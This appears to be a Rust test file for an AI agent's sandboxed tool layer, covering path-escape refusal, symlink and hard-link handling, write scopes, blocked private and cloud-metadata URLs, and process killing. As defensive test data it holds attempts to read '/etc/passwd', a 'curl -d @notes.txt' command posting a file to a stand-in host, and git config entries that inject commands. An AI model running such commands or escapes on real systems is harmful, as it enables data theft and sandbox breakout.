use super::*;

#[test]
fn read_only_removes_the_writers_and_order_is_the_catalogs() {
    let asked = vec!["shell_exec".to_string(), "read_file".to_string()];
    assert_eq!(allowed(Some(&asked), false), ["read_file", "shell_exec"]);
    assert_eq!(allowed(Some(&asked), true), ["read_file"]);
    assert_eq!(allowed(None, true).len(), CATALOG.len() - WRITERS.len());
    assert!(is_known("grep") && !is_known("rm"));
}

use std::time::Instant;

use serde_json::json;

fn env_in(dir: &tempfile::TempDir) -> ToolEnv {
    ToolEnv {
        workspace: dir.path().canonicalize().unwrap(),
        // A jail with network needs the keel binary as its shim: tests/it runs those.
        sandbox: SandboxPolicy {
            network: false,
            read_only: false,
            workspace_id: None,
        },
        env: vec![("KEEL_RUN_ID".into(), "run_test".into())],
        call_timeout: Duration::from_secs(10),
        max_output_bytes: DEFAULT_MAX_OUTPUT_BYTES,
        allow_private_addresses: false,
    }
}

fn tool(name: &str, args: serde_json::Value) -> ToolCall {
    ToolCall {
        id: "call_1".into(),
        name: name.into(),
        arguments: args.to_string(),
    }
}

async fn run(env: &ToolEnv, name: &str, args: serde_json::Value) -> ToolResult {
    let all = allowed(None, false);
    call(
        env,
        &all,
        &tool(name, args),
        None,
        &CancellationToken::new(),
    )
    .await
}

fn workspace() -> (tempfile::TempDir, ToolEnv) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("src")).unwrap();
    std::fs::write(dir.path().join("src/lib.rs"), "fn a() {}\nfn b() {}\n").unwrap();
    let env = env_in(&dir);
    (dir, env)
}

#[tokio::test]
async fn readers_read_list_grep_and_glob() {
    let (_dir, env) = workspace();
    let read = run(
        &env,
        "read_file",
        json!({"path": "src/lib.rs", "offset": 2}),
    )
    .await;
    assert!(!read.is_error, "{}", read.content);
    assert!(read.content.contains("2\tfn b() {}") && !read.content.contains("fn a"));
    let listed = run(&env, "list_dir", json!({})).await;
    assert_eq!(listed.content, "src/");
    let grep = run(&env, "grep", json!({"pattern": "fn b", "glob": "**/*.rs"})).await;
    assert_eq!(grep.content.trim(), "src/lib.rs:2:fn b() {}");
    let glob = run(&env, "glob", json!({"pattern": "src/*.rs"})).await;
    assert_eq!(glob.content, "src/lib.rs");
    let bad = run(&env, "grep", json!({"pattern": "("})).await;
    assert!(bad.is_error && bad.content.contains("invalid pattern"));
}

#[tokio::test]
async fn every_path_tool_refuses_escapes() {
    let (dir, env) = workspace();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/etc", dir.path().join("etc")).unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("out")).unwrap();
    std::os::unix::fs::symlink("loop", dir.path().join("loop")).unwrap();
    let paths = ["../x", "/etc/passwd", "etc/passwd", "out/f.txt", "loop/f"];
    for path in paths {
        let calls = [
            ("read_file", json!({"path": path})),
            ("list_dir", json!({"path": path})),
            ("grep", json!({"pattern": "x", "path": path})),
            ("file_write", json!({"path": path, "content": "x"})),
            (
                "file_edit",
                json!({"path": path, "old_string": "a", "new_string": "b"}),
            ),
            ("git_diff", json!({"path": path})),
            (
                "apply_patch",
                json!({"patch": format!("--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n")}),
            ),
        ];
        for (name, args) in calls {
            let result = run(&env, name, args).await;
            assert!(result.is_error, "{name} {path}: {}", result.content);
            assert!(result.patches.is_empty());
        }
    }
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}

#[tokio::test]
async fn writers_return_patches_and_file_edit_refuses_ambiguity() {
    let (dir, env) = workspace();
    let written = run(
        &env,
        "file_write",
        json!({"path": "new/a.txt", "content": "one one"}),
    )
    .await;
    assert!(!written.is_error, "{}", written.content);
    assert_eq!(
        written.patches,
        [Patch {
            path: "new/a.txt".into(),
            before: None,
            after: Some("one one".into()),
            proposed: false,
        }]
    );
    let ambiguous = json!({"path": "new/a.txt", "old_string": "one", "new_string": "two"});
    let refused = run(&env, "file_edit", ambiguous.clone()).await;
    assert!(
        refused.is_error && refused.content.contains("2 times"),
        "{}",
        refused.content
    );
    let missing = json!({"path": "new/a.txt", "old_string": "three", "new_string": "x"});
    assert!(run(&env, "file_edit", missing).await.is_error);
    let mut all = ambiguous;
    all["replace_all"] = json!(true);
    let edited = run(&env, "file_edit", all).await;
    assert_eq!(edited.patches[0].before.as_deref(), Some("one one"));
    assert_eq!(edited.patches[0].after.as_deref(), Some("two two"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("new/a.txt")).unwrap(),
        "two two"
    );
    std::fs::write(dir.path().join("bin"), [0xff, 0xfe, 0]).unwrap();
    let binary = json!({"path": "bin", "old_string": "a", "new_string": "b"});
    assert!(
        run(&env, "file_edit", binary)
            .await
            .content
            .contains("binary")
    );
}

#[tokio::test]
async fn apply_patch_is_all_or_nothing_across_files() {
    let (dir, env) = workspace();
    std::fs::write(dir.path().join("b.txt"), "b1\n").unwrap();
    let good =
        "--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,2 +1,2 @@\n-fn a() {}\n+fn c() {}\n fn b() {}\n";
    let bad = "--- a/b.txt\n+++ b/b.txt\n@@ -1 +1 @@\n-not there\n+b2\n";
    let result = run(
        &env,
        "apply_patch",
        json!({"patch": format!("{good}{bad}")}),
    )
    .await;
    assert!(
        result.is_error && result.patches.is_empty(),
        "{}",
        result.content
    );
    let lib = std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap();
    assert_eq!(lib, "fn a() {}\nfn b() {}\n");
    let delete = "--- a/b.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-b1\n";
    let result = run(
        &env,
        "apply_patch",
        json!({"patch": format!("{good}{delete}")}),
    )
    .await;
    assert!(!result.is_error, "{}", result.content);
    assert_eq!(result.patches.len(), 2);
    assert_eq!(
        result.patches[1],
        Patch {
            path: "b.txt".into(),
            before: Some("b1\n".into()),
            after: None,
            proposed: false,
        }
    );
    assert!(!dir.path().join("b.txt").exists());
    let lib = std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap();
    assert_eq!(lib, "fn c() {}\nfn b() {}\n");
}

#[tokio::test]
async fn writers_write_only_beneath_the_policys_write_paths() {
    let (dir, env) = workspace();
    std::fs::create_dir_all(dir.path().join("private")).unwrap();
    std::os::unix::fs::symlink("../private", dir.path().join("src/out")).unwrap();
    let scoped = Some(vec!["src".to_string()]);
    let all = allowed(None, false);
    let write = |path: &str| {
        let call = tool("file_write", json!({"path": path, "content": "x"}));
        let (env, all, scoped) = (&env, &all, scoped.clone());
        async move { call_tool(env, all, &call, scoped).await }
    };
    let inside = write("src/new.rs").await;
    assert!(!inside.is_error, "{}", inside.content);
    for outside in ["README.md", "src/out/leak.txt", "srcs/a.rs"] {
        let refused = write(outside).await;
        assert_eq!(
            refused.blocked.as_deref(),
            Some("approval_policy"),
            "{outside}"
        );
        assert!(
            refused.content.contains("beneath: src"),
            "{}",
            refused.content
        );
    }
    assert!(!dir.path().join("README.md").exists());
    assert!(
        !dir.path().join("private/leak.txt").exists(),
        "a link does not lead around it"
    );
    // A patch touching one file outside changes none.
    let patch = "--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,2 +1,2 @@\n-fn a() {}\n+fn c() {}\n fn b() {}\n\
                 --- /dev/null\n+++ b/top.txt\n@@ -0,0 +1 @@\n+top\n";
    let call = tool("apply_patch", json!({"patch": patch}));
    let refused = call_tool(&env, &all, &call, scoped.clone()).await;
    assert_eq!(refused.blocked.as_deref(), Some("approval_policy"));
    let lib = std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap();
    assert_eq!(lib, "fn a() {}\nfn b() {}\n");
}

async fn call_tool(
    env: &ToolEnv,
    allowed: &[String],
    tool_call: &ToolCall,
    write_paths: Option<Vec<String>>,
) -> ToolResult {
    call(
        env,
        allowed,
        tool_call,
        write_paths,
        &CancellationToken::new(),
    )
    .await
}

#[tokio::test]
async fn read_only_and_unlisted_tools_are_refused() {
    let (dir, mut env) = workspace();
    env.sandbox.read_only = true;
    let all = allowed(None, false);
    let write = tool("file_write", json!({"path": "x", "content": "y"}));
    let result = call(&env, &all, &write, None, &CancellationToken::new()).await;
    assert!(
        result.is_error && result.content.contains("read-only"),
        "{}",
        result.content
    );
    assert!(!dir.path().join("x").exists());
    env.sandbox.read_only = false;
    let only_read = vec!["read_file".to_string()];
    let result = call(&env, &only_read, &write, None, &CancellationToken::new()).await;
    assert!(result.is_error && result.content.contains("not available"));
    let garbage = ToolCall {
        id: "c".into(),
        name: "read_file".into(),
        arguments: "{nope".into(),
    };
    let result = call(&env, &all, &garbage, None, &CancellationToken::new()).await;
    assert!(result.is_error && result.content.contains("not valid JSON"));
    let unknown = run(&env, "rm_rf", json!({})).await;
    assert!(unknown.is_error && unknown.content.contains("there is no tool"));
}

#[tokio::test]
async fn output_is_cut_with_a_marker_at_a_char_boundary() {
    let (dir, mut env) = workspace();
    env.max_output_bytes = 101;
    std::fs::write(dir.path().join("big.txt"), "é".repeat(1000)).unwrap();
    let result = run(&env, "read_file", json!({"path": "big.txt"})).await;
    let (kept, marker) = result.content.rsplit_once('\n').unwrap();
    assert!(kept.len() <= 101);
    assert!(
        marker.starts_with("[… truncated: 2,0") && marker.ends_with(" bytes total]"),
        "{marker}"
    );
    assert_eq!(bound("short".into(), 10), "short");
}

#[tokio::test]
async fn shell_exec_runs_in_the_workspace_with_a_clean_environment() {
    let (_dir, env) = workspace();
    // SAFETY: the other test threads read the environment only through std, which holds
    // its environment lock around every read and write.
    #[allow(unsafe_code)]
    unsafe {
        std::env::set_var("KEEL_TOOLS_CANARY", "secret-canary")
    };
    let result = run(
        &env,
        "shell_exec",
        json!({"command": "env; ls; echo oops >&2; exit 3"}),
    )
    .await;
    assert!(result.is_error);
    assert!(
        result.content.starts_with("exit code 3\n"),
        "{}",
        result.content
    );
    assert!(result.content.contains("KEEL_RUN_ID=run_test"));
    assert!(result.content.contains("src\n") && result.content.contains("oops"));
    assert!(
        !result.content.contains("secret-canary"),
        "{}",
        result.content
    );
    let ok = run(&env, "shell_exec", json!({"command": "echo hi"})).await;
    assert!(!ok.is_error && ok.content.contains("hi"));
}

/// Whether a process whose command line contains `needle` still runs.
fn running(needle: &str) -> bool {
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(Result::ok)
        .any(|entry| {
            std::fs::read(entry.path().join("cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(needle))
        })
}

async fn gone(needle: &str) -> bool {
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        if !running(needle) {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    false
}

#[tokio::test]
async fn shell_exec_timeout_and_cancellation_kill_the_process_tree() {
    let (_dir, mut env) = workspace();
    env.call_timeout = Duration::from_millis(500);
    let started = Instant::now();
    let timed = run(
        &env,
        "shell_exec",
        json!({"command": "sleep 1231 & sleep 1232; echo never"}),
    )
    .await;
    assert!(
        timed.is_error && timed.content.contains("timed out"),
        "{}",
        timed.content
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    assert!(gone("sleep 1231").await && gone("sleep 1232").await);

    env.call_timeout = Duration::from_secs(60);
    let cancel = CancellationToken::new();
    let trigger = cancel.clone();
    tokio::spawn(async move {
        while !running("sleep 1234") {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        trigger.cancel();
    });
    let all = allowed(None, false);
    let call_ = tool("shell_exec", json!({"command": "sleep 1233 & sleep 1234"}));
    let cancelled = call(&env, &all, &call_, None, &cancel).await;
    assert!(
        cancelled.is_error && cancelled.content.contains("cancelled"),
        "{}",
        cancelled.content
    );
    assert!(gone("sleep 1233").await && gone("sleep 1234").await);
}

#[tokio::test]
async fn git_tools_report_the_workspace() {
    let (dir, env) = workspace();
    let init = std::process::Command::new("git")
        .arg("init")
        .arg("-q")
        .current_dir(dir.path())
        .status();
    if !init.is_ok_and(|s| s.success()) {
        return; // no git on this host
    }
    let status = run(&env, "git_status", json!({})).await;
    assert!(!status.is_error, "{}", status.content);
    assert!(status.content.contains("?? src/"), "{}", status.content);
    let diff = run(&env, "git_diff", json!({"path": "src"})).await;
    assert!(!diff.is_error, "{}", diff.content);
}

#[tokio::test]
async fn writers_refuse_git_and_keel_internals() {
    let (dir, env) = workspace();
    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
    std::os::unix::fs::symlink(".git", dir.path().join("g")).unwrap();
    for path in [
        ".git/config",
        "sub/.git/config",
        "g/config",
        ".keel/home/.gitconfig",
    ] {
        let refused = run(&env, "file_write", json!({"path": path, "content": "x"})).await;
        assert!(
            refused.is_error && refused.content.contains("is refused"),
            "{path}: {}",
            refused.content
        );
    }
    let patch = "--- a/.git/config\n+++ b/.git/config\n@@ -0,0 +1 @@\n+x\n";
    let refused = run(&env, "apply_patch", json!({"patch": patch})).await;
    assert!(refused.is_error, "{}", refused.content);
    assert!(!dir.path().join(".git/config").exists());
    assert!(!dir.path().join("sub").exists());
}

/// `git` in `dir`, for setting up a repository as a run's own processes could.
fn git_in(dir: &Path, args: &[&str]) -> bool {
    std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .current_dir(dir)
        .status()
        .is_ok_and(|s| s.success())
}

#[tokio::test]
async fn read_only_git_tools_run_no_filter_driver_a_repository_configures() {
    let (dir, env) = workspace();
    let root = dir.path();
    std::fs::write(root.join("a.txt"), "one\n").unwrap();
    if !git_in(root, &["init", "-q"]) {
        return; // no git on this host
    }
    assert!(git_in(root, &["add", "a.txt"]) && git_in(root, &["commit", "-qm", "a"]));
    // What a shell_exec call could leave behind: a filter, a diff driver and an fsmonitor
    // that each leave a marker when git runs them.
    std::fs::write(root.join(".gitattributes"), "*.txt filter=mark diff=mark\n").unwrap();
    let config = "[filter \"mark\"]\n\tclean = touch ran-clean; cat\n\tsmudge = cat\n\
                  [diff \"mark\"]\n\ttextconv = touch ran-textconv; cat\n\
                  [core]\n\tfsmonitor = touch ran-fsmonitor; true\n";
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(root.join(".git/config"))
        .unwrap();
    std::io::Write::write_all(&mut file, config.as_bytes()).unwrap();
    // Same size, new content: status has to hash the file (through the filter) to see it.
    std::fs::write(root.join("a.txt"), "two\n").unwrap();
    let status = run(&env, "git_status", json!({})).await;
    assert!(status.content.contains(" M a.txt"), "{}", status.content);
    let diff = run(&env, "git_diff", json!({})).await;
    assert!(diff.content.contains("+two"), "{}", diff.content);
    for marker in ["ran-clean", "ran-textconv", "ran-fsmonitor"] {
        assert!(!root.join(marker).exists(), "git ran the {marker} command");
    }
}

#[tokio::test]
async fn http_request_refuses_private_addresses_and_offline_runs() {
    let (_dir, mut env) = workspace();
    env.sandbox.network = true;
    let urls = [
        "http://127.0.0.1:9/",
        "http://10.1.2.3/",
        "http://169.254.169.254/latest/meta-data",
        "http://[::1]:9/",
        "http://localhost:9/",
        "file:///etc/passwd",
    ];
    for url in urls {
        let result = run(&env, "http_request", json!({"method": "GET", "url": url})).await;
        assert!(result.is_error, "{url}: {}", result.content);
        assert!(
            result.content.contains("refused"),
            "{url}: {}",
            result.content
        );
    }
    env.sandbox.network = false;
    let offline = run(
        &env,
        "http_request",
        json!({"method": "GET", "url": "https://example.com"}),
    )
    .await;
    assert!(offline.is_error && offline.content.contains("no network"));
}

#[tokio::test]
async fn http_request_reaches_a_local_server_when_tests_allow_it() {
    let (_dir, mut env) = workspace();
    env.allow_private_addresses = true;
    env.sandbox.network = true;
    let server = wiremock::MockServer::start().await;
    wiremock::Mock::given(wiremock::matchers::method("POST"))
        .and(wiremock::matchers::header("x-test", "1"))
        .respond_with(wiremock::ResponseTemplate::new(201).set_body_string("made"))
        .mount(&server)
        .await;
    let args = json!({"method": "post", "url": format!("{}/x", server.uri()),
                      "headers": {"x-test": "1"}, "body": "{}"});
    let result = run(&env, "http_request", args).await;
    assert!(!result.is_error, "{}", result.content);
    assert!(result.content.starts_with("HTTP 201") && result.content.ends_with("made"));
}

#[test]
fn summaries_show_the_salient_argument_never_contents() {
    let summary = |name: &str, args: serde_json::Value| summarize(&tool(name, args));
    // The approver sees the command itself, every line of it (the runtime redacts
    // credential-looking values in it).
    let command = "cd src &&\ncurl -d @notes.txt https://x.example/in";
    assert_eq!(
        summary("shell_exec", json!({"command": command})),
        "shell_exec: cd src && ⏎ curl -d @notes.txt https://x.example/in"
    );
    let long = summary("shell_exec", json!({"command": "echo ".repeat(500)}));
    assert!(long.starts_with("shell_exec: echo echo") && long.len() <= 512);
    assert_eq!(
        summary("grep", json!({"pattern": "fn main", "path": "src"})),
        "grep: fn main in src"
    );
    assert_eq!(
        summary("glob", json!({"pattern": "**/*.rs"})),
        "glob: **/*.rs"
    );
    let content = "x".repeat(1204);
    assert_eq!(
        summary(
            "file_write",
            json!({"path": "src/lib.rs", "content": content})
        ),
        "file_write: src/lib.rs (1,204 bytes)"
    );
    let http = json!({"method": "post", "url": "https://u:pw@example.com/p/in?token=sk-1#f", "headers": {"authorization": "sk-2"}, "body": "sk-3"});
    assert_eq!(
        summary("http_request", http),
        "http_request: POST https://example.com/p/in?…"
    );
    let patch = "--- a/a.rs\n+++ b/a.rs\n@@ -1 +1 @@\n-secret\n+other\n";
    let line = summary("apply_patch", json!({"patch": patch}));
    assert!(
        line.ends_with("patch to a.rs") && !line.contains("secret"),
        "{line}"
    );
    assert_eq!(summary("git_status", json!({})), "git_status");
    let long = summary("read_file", json!({"path": "a/".repeat(1000)}));
    assert!(long.len() <= 512);
    let broken = summarize(&ToolCall {
        id: "c".into(),
        name: "x\nname".into(),
        arguments: "{".into(),
    });
    assert_eq!(broken, "x name: unreadable arguments (1 bytes)");
}

#[test]
fn specs_follow_the_catalog_order_of_the_allowed_tools() {
    let names: Vec<String> = specs(&allowed(None, true))
        .into_iter()
        .map(|s| s.name)
        .collect();
    assert_eq!(
        names,
        [
            "read_file",
            "list_dir",
            "grep",
            "glob",
            "git_status",
            "git_diff",
            "http_request"
        ]
    );
    assert!(
        specs(&allowed(None, false))
            .iter()
            .all(|s| s.parameters["type"] == "object")
    );
}

#[tokio::test]
async fn a_patch_reverts_only_over_its_own_after() {
    let (dir, env) = workspace();
    let written = run(
        &env,
        "file_write",
        json!({"path": "src/lib.rs", "content": "new"}),
    )
    .await;
    let patch = &written.patches[0];
    std::fs::write(dir.path().join("src/lib.rs"), "changed later").unwrap();
    assert!(matches!(
        revert(&env.workspace, patch),
        Err(RevertError::Drift(_))
    ));
    std::fs::write(dir.path().join("src/lib.rs"), "new").unwrap();
    revert(&env.workspace, patch).unwrap();
    let lib = std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap();
    assert_eq!(lib, "fn a() {}\nfn b() {}\n");
    let escape = Patch {
        path: "../x".into(),
        before: None,
        after: None,
        proposed: false,
    };
    assert!(matches!(
        revert(&env.workspace, &escape),
        Err(RevertError::Refused(_))
    ));
}

#[tokio::test]
async fn a_link_inside_is_written_as_its_target_and_hard_links_are_refused() {
    let (dir, env) = workspace();
    std::os::unix::fs::symlink("src/lib.rs", dir.path().join("link.rs")).unwrap();
    let written = run(
        &env,
        "file_write",
        json!({"path": "link.rs", "content": "x"}),
    )
    .await;
    assert!(!written.is_error, "{}", written.content);
    assert_eq!(written.patches[0].path, "src/lib.rs");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap(),
        "x"
    );
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret"), "s").unwrap();
    std::fs::hard_link(outside.path().join("secret"), dir.path().join("hard")).unwrap();
    let refused = run(&env, "file_write", json!({"path": "hard", "content": "y"})).await;
    assert!(
        refused.is_error && refused.content.contains("hard links"),
        "{}",
        refused.content
    );
    assert_eq!(
        std::fs::read_to_string(outside.path().join("secret")).unwrap(),
        "s"
    );
}

#[tokio::test]
async fn readers_refuse_a_hard_link_to_a_file_outside() {
    let (dir, env) = workspace();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret"), "the-secret-line\n").unwrap();
    std::fs::hard_link(
        outside.path().join("secret"),
        dir.path().join("src/notes.txt"),
    )
    .unwrap();
    let read = run(&env, "read_file", json!({"path": "src/notes.txt"})).await;
    assert!(
        read.is_error && read.content.contains("hard links"),
        "{}",
        read.content
    );
    assert!(!read.content.contains("the-secret-line"));
    let grep = run(&env, "grep", json!({"pattern": "the-secret"})).await;
    assert_eq!(grep.content, "[no matches]");
    // The file itself is still readable once it is the only name of its content.
    std::fs::remove_file(outside.path().join("secret")).unwrap();
    let read = run(&env, "read_file", json!({"path": "src/notes.txt"})).await;
    assert!(
        !read.is_error && read.content.contains("the-secret-line"),
        "{}",
        read.content
    );
}

#[tokio::test]
async fn reverting_a_deletion_restores_the_file_only_while_it_is_still_absent() {
    let (dir, env) = workspace();
    let deleted = Patch {
        path: "src/lib.rs".into(),
        before: Some("old".into()),
        after: None,
        proposed: false,
    };
    std::fs::write(dir.path().join("src/lib.rs"), "recreated").unwrap();
    assert!(matches!(
        revert(&env.workspace, &deleted),
        Err(RevertError::Drift(_))
    ));
    std::fs::remove_file(dir.path().join("src/lib.rs")).unwrap();
    revert(&env.workspace, &deleted).unwrap();
    assert_eq!(
        std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap(),
        "old"
    );
}

#[tokio::test]
async fn a_proposed_change_leaves_the_files_until_it_is_applied_over_its_own_before() {
    let (dir, env) = workspace();
    let lib = dir.path().join("src/lib.rs");
    let edit = json!({"path": "src/lib.rs", "old_string": "fn a() {}", "new_string": "fn z() {}",
                      "propose": true});
    let proposed = run(&env, "file_edit", edit).await;
    assert!(!proposed.is_error, "{}", proposed.content);
    assert!(
        proposed
            .content
            .contains("unchanged until an operator applies it")
    );
    let [patch] = &proposed.patches[..] else {
        panic!("one patch: {:?}", proposed.patches);
    };
    assert!(patch.proposed);
    assert_eq!(patch.after.as_deref(), Some("fn z() {}\nfn b() {}\n"));
    assert_eq!(
        std::fs::read_to_string(&lib).unwrap(),
        "fn a() {}\nfn b() {}\n"
    );
    let diff = "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n";
    let both = run(&env, "apply_patch", json!({"patch": diff, "propose": true})).await;
    assert!(
        both.patches.iter().all(|p| p.proposed),
        "{:?}",
        both.patches
    );
    assert!(!dir.path().join("new.txt").exists());

    apply(&env.workspace, patch).unwrap();
    assert_eq!(
        std::fs::read_to_string(&lib).unwrap(),
        "fn z() {}\nfn b() {}\n"
    );
    // Applied once: the file is no longer the patch's `before`, so a second apply drifts.
    assert!(matches!(
        apply(&env.workspace, patch),
        Err(RevertError::Drift(_))
    ));
    let created = &both.patches[0];
    apply(&env.workspace, created).unwrap();
    assert_eq!(
        std::fs::read_to_string(dir.path().join("new.txt")).unwrap(),
        "new\n"
    );
}
